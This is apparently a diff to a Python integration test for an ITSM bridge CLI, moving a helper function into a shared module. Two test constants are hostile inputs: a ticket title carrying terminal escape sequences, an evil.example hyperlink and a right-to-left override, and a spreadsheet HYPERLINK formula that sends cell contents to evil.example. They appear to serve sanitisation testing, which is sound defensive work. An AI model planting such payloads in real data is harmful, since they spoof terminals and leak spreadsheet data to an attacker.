@@ -8,27 +8,14 @@ from __future__ import annotations
 import csv
 import io
 import os
-import subprocess
-import sys
 import time
 from pathlib import Path
 
 from itsm_bridge.sandbox.core import Response
-from tests.integration.test_crash_safety import ROOT, new_sandbox, start
+from tests.integration.test_crash_safety import cli, new_sandbox, start
 
 ESC_TITLE = "VPN down \x1b]0;owned\x07\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \u202eexe.txt"
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"\x1b[31mopen")'
-
-
-def cli(cfg: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        [sys.executable, "-m", "itsm_bridge.cli", "--config", str(cfg), *args],
-        env=env,
-        cwd=ROOT,
-        capture_output=True,
-        text=True,
-        timeout=120,
-    )
 
 
 def controls(text: str) -> list[str]:
